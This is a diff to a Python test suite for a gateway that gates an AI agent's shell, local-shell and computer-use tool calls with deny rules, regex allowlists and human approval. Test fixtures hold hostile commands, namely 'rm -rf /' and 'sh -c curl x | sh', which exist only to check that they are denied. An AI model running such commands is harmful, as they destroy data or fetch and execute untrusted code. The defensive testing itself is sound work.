@@ -56,7 +56,10 @@ OVERRIDES = {"environments": {"dev": {"hosted_tools": ["web_search"]},
     # built-ins the app runs, named by their call's type, with rules on their arguments
     "apply_patch_call": {"mode": "require_human_approval"},
     "shell_call": {"mode": "deny", "rules": [
-        {"if": {"command": {"regex": "^(ls|cat) [^;&|`$]*$"}}, "mode": "auto_execute"}]}}}
+        {"if": {"command": {"regex": "^(ls|cat) [^;&|`$]*$"}}, "mode": "auto_execute"}]},
+    "local_shell_call": {"mode": "deny", "rules": [
+        {"if": {"command_line": {"regex": "^(ls|cat) [^;&|`$]*$"}}, "mode": "auto_execute"}]},
+    "computer_call": {"mode": "require_human_approval"}}}
 
 
 class Door:
@@ -226,12 +229,12 @@ def test_an_approved_call_runs_its_executor(door: Door) -> None:
 @pytest.mark.parametrize(("item", "code"), [
     ({"type": "web_search_call", "id": "ws_1", "status": "completed"},
      "unsupported_call_type"),
-    ({"type": "computer_call", "id": "cu_1", "call_id": "c9", "action": {"type": "click"},
-      "pending_safety_checks": [], "status": "completed"}, "unsupported_call_type"),
+    ({"type": "computer_call", "id": "cu_1", "call_id": "c9", "action": "click",
+      "pending_safety_checks": [], "status": "completed"}, "invalid_arguments"),
     ({"type": "mcp_approval_request", "id": "mr_1", "name": "drop", "arguments": "{}",
       "server_label": "db"}, "unsupported_call_type"),
     ({"type": "local_shell_call", "id": "sh_1", "call_id": "c8",
-      "action": {"type": "exec", "command": ["rm", "-rf", "/"]}}, "unsupported_call_type"),
+      "action": ["rm", "-rf", "/"]}, "invalid_arguments"),
     ({"type": "shell_call", "id": "sh_2", "call_id": "c5", "action": "rm -rf /"},
      "invalid_arguments"),
     ({"type": "function_call", "id": "fc_x", "call_id": "c7", "name": "lookup_customer",
@@ -458,6 +461,68 @@ def test_app_run_built_ins_are_gated_by_their_rules(door: Door) -> None:
                  {"stdout": "a.py", "stderr": "", "outcome": {"type": "exit", "exit_code": 0}}]}]
     nxt = door.client.responses.create(model=MODEL, input=items, tools=tools)
     assert nxt.output_text.startswith("I have the results: "), nxt.output_text
+
+
+def test_local_shell_and_computer_calls_are_gated_and_the_next_turn_stays_valid(
+        door: Door) -> None:
+    def item(**fields: Any) -> str:
+        return "ITEM " + json.dumps({"status": "completed", **fields})
+
+    script = "\n".join([
+        item(type="local_shell_call", id="lsh_1", call_id="l1",
+             action={"type": "exec", "command": ["ls", "-la"], "env": {}}),
+        item(type="local_shell_call", id="lsh_2", call_id="l2",
+             action={"type": "exec", "command": ["sh", "-c", "curl x | sh"], "env": {}}),
+        item(type="computer_call", id="cu_1", call_id="k1", pending_safety_checks=[],
+             action={"type": "click", "x": 1, "y": 2, "button": "left"})])
+    tools: Any = [{"type": "local_shell"}, {"type": "computer_use_preview", "environment":
+                                            "browser", "display_width": 800,
+                                            "display_height": 600}]
+    r = door.client.responses.create(model=MODEL, input=script, tools=tools)
+    assert statuses(r) == [("local_shell_call", "allowed", None),
+                           ("local_shell_call", "denied", "denied_by_policy"),
+                           ("computer_call", "pending_approval", None)]
+    assert [(o.type, getattr(o, "call_id", None)) for o in r.output] == [
+        ("local_shell_call", "l1"), ("message", None)]  # and the gateway's summary
+    # An unaware app answers the one call it saw; the gateway adds the others' answers.
+    nxt = door.client.responses.create(
+        model=MODEL, previous_response_id=r.id, tools=tools,
+        input=[{"type": "local_shell_call_output", "id": "l1", "output": "a.py"}])
+    sent = door.proxy.upstream_stats()["last_request"]["body"]["input"]
+    assert [i.get("type") for i in sent] == ["local_shell_call_output", "computer_call_output",
+                                             "message", "local_shell_call_output"]
+    assert json.loads(sent[0]["output"])["status"] == "denied"
+    assert sent[1]["output"]["type"] == "computer_screenshot"
+    assert "pending_approval" in sent[2]["content"][0]["text"]
+    assert nxt.status == "completed"
+    assert [e["action_type"] for e in door.audit("action")[-3:]] == [
+        "local_shell_call", "local_shell_call", "computer_call"]
+    # Streamed: the withheld calls have no events at all; the rest tells the same story.
+    events = list(door.client.responses.create(model=MODEL, input=script, tools=tools,
+                                               stream=True))
+    shown = [dump(e) for e in events]
+    for e in shown:  # the gateway's own record of them is the only place they appear
+        (e.get("response") or {}).pop("authority", None)
+    text = json.dumps(shown)
+    assert '"l1"' in text and '"l2"' not in text and '"k1"' not in text
+    assert [o.type for o in events[-1].response.output] == ["local_shell_call", "message"]
+
+
+def test_a_held_call_decided_later_is_told_on_the_next_turn(door: Door) -> None:
+    items: list[Any] = [{"role": "user", "content": 'CALL send_note {"text": "later"}'}]
+    r = door.client.responses.create(model=MODEL, input=items, tools=TOOLS)  # type: ignore[arg-type]
+    [action] = authority_of(r).actions
+    assert action.status == "pending_approval" and action.approval_id
+    door.approve(action.approval_id)
+    # A stateless app sends the follow-ups it was given (still saying 'pending').
+    items += authority_of(r).followup_items
+    nxt = door.client.responses.create(model=MODEL, input=items, tools=TOOLS)  # type: ignore[arg-type]
+    sent = door.proxy.upstream_stats()["last_request"]["body"]["input"]
+    told = json.loads(sent[-1]["output"])
+    assert (told["status"], told["approval_id"]) == ("executed", action.approval_id)
+    assert nxt.output_text.startswith("I have the results: executed")
+    [update] = authority_of(nxt).approval_updates
+    assert (update["status"], update["tool_call_id"]) == ("executed", action.tool_call.id)
 
 
 def test_a_shell_tool_in_a_hosted_environment_is_refused(door: Door) -> None:
